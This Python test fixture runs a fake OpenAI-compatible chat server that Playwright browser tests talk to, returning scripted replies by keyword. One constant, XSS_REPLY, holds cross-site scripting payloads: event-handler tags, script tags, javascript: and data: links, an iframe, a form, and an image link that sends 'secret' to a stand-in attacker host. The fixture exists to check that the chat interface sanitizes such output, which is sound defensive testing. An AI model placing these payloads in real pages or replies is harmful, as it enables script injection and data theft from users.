"""The fake OpenAI-compatible model the browser tests chat with, running in a thread of its
own (the tests drive Playwright synchronously) and answering by what it is asked:

- a title request: "About <the first words>" ("Sorting lists in Python" for sorting);
- a message with "slow": forty words, a tenth of a second apart (to stop, or reload during);
- "xss": hostile markdown and HTML, which must not run or fetch anything;
- "sort": a reply with a code block, a table and math (for the screenshots);
- "flaky": an upstream error the first time, a normal answer after that;
- anything else: "Answer N: hello there." with N counting the requests.
"""

from __future__ import annotations

import asyncio
import itertools
import threading
from collections.abc import Callable, Iterator
from contextvars import ContextVar
from typing import Any, ClassVar

from aiohttp import web

from tests.fakes.openai_server import FakeOpenAI
from tests.fakes.server import Reply

SLOW_WORDS = 40
XSS_REPLY = (
    "Here you go.\n\n"
    "<img src=x onerror=\"alert('img')\">\n\n"
    "<svg onload=\"alert('svg')\"></svg>\n\n"
    "<script>alert('script')</script>\n\n"
    "[click me](javascript:alert('link'))\n\n"
    '<a href="data:text/html,<script>alert(1)</script>">data link</a>\n\n'
    '<iframe src="https://evil.example/frame"></iframe>\n\n'
    "![secret chart](https://evil.example/collect?q=secret)\n\n"
    '<form action="https://evil.example/"><button>go</button></form>\n\n'
    "<<script>script>alert('nested')<</script>/script>\n\n"
    "A real link: [docs](https://docs.example/guide)"
)
MARKDOWN_REPLY = (
    "## Sorting in Python\n\n"
    "Use `sorted()` for a new list, or `list.sort()` to sort **in place**:\n\n"
    "```python\nnames = ['Ada', 'Grace', 'Linus']\n"
    "by_length = sorted(names, key=len, reverse=True)\nprint(by_length)\n```\n\n"
    "| function | returns | stable |\n|---|---|---|\n"
    "| `sorted()` | a new list | yes |\n| `list.sort()` | `None` | yes |\n\n"
    "Comparison sorts need $O(n \\log n)$ comparisons:\n\n"
    "$$\\log_2 n! \\approx n \\log_2 n - n \\log_2 e$$\n\n"
    "1. Pick a key function.\n2. Decide the direction.\n3. Let Python do the rest."
)

_reply: ContextVar[Reply | None] = ContextVar("e2e_reply", default=None)


def _chunks(text: str, size: int = 12) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


class ScriptedModel(FakeOpenAI):
    """Chooses each reply from the request itself; every request gets its own (a context
    variable per aiohttp handler task), so concurrent requests cannot mix them up."""

    _counter = itertools.count(1)
    _failed: ClassVar[set[str]] = set()

    @property  # type: ignore[override]
    def reply(self) -> Reply:
        return _reply.get() or self._default

    @reply.setter
    def reply(self, value: Reply) -> None:
        self._default = value

    async def chat(self, request: web.Request) -> web.StreamResponse:
        payload = await request.json()
        _reply.set(self.choose(payload))
        return await super().chat(request)

    def choose(self, payload: dict[str, Any]) -> Reply:
        users = [m for m in payload.get("messages", []) if m.get("role") == "user"]
        text = str(users[-1]["content"]) if users else ""
        if text.startswith("Write a short title"):
            first = text.split("Message:\n", 1)[-1].strip()
            if "sort" in first:
                return Reply(chunks=["Sorting lists ", "in Python"])
            return Reply(chunks=["About ", " ".join(first.split()[:3])])
        if "slow" in text:
            words = [f"word{i} " for i in range(1, SLOW_WORDS + 1)]
            return Reply(chunks=words, delay=0.1)
        if "xss" in text:
            return Reply(chunks=_chunks(XSS_REPLY, 40), delay=0.01)
        if "flaky" in text and text not in self._failed:
            self._failed.add(text)
            return Reply(status=500, body={"error": {"message": "the upstream fell over"}})
        if "sort" in text:
            return Reply(chunks=_chunks(MARKDOWN_REPLY), delay=0.01)
        return Reply(chunks=["Answer ", str(next(self._counter)), ": hello there."], delay=0.05)


class CitingModel(ScriptedModel):
    """Answers `answer` when the request carries numbered sources (retrieved passages or web
    pages); otherwise as ScriptedModel."""

    def __init__(self, answer: list[str]) -> None:
        super().__init__()
        self.answer = answer

    def choose(self, payload: dict[str, Any]) -> Reply:
        messages = payload.get("messages", [])
        system = " ".join(str(m.get("content", "")) for m in messages if m.get("role") == "system")
        if '<source n="1"' in system:
            return Reply(chunks=self.answer, delay=0.02)
        return super().choose(payload)


class ModelThread:
    """Runs a ScriptedModel (or the one `make` builds) on its own event loop in a daemon
    thread."""

    def __init__(self, make: Callable[[], ScriptedModel] = ScriptedModel) -> None:
        self.make = make
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, daemon=True)
        self.model: ScriptedModel | None = None

    def start(self) -> ScriptedModel:
        self.thread.start()
        self.model = asyncio.run_coroutine_threadsafe(self._start(), self.loop).result(10)
        return self.model

    async def _start(self) -> ScriptedModel:
        model = self.make()
        await model.start()
        return model

    def stop(self) -> None:
        if self.model is not None:
            asyncio.run_coroutine_threadsafe(self.model.stop(), self.loop).result(10)
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(10)
        self.loop.close()


def serve_model(make: Callable[[], ScriptedModel]) -> Iterator[ScriptedModel]:
    """A model from `make`, running until the generator is closed (for module fixtures)."""
    runner = ModelThread(make)
    model = runner.start()
    yield model
    runner.stop()
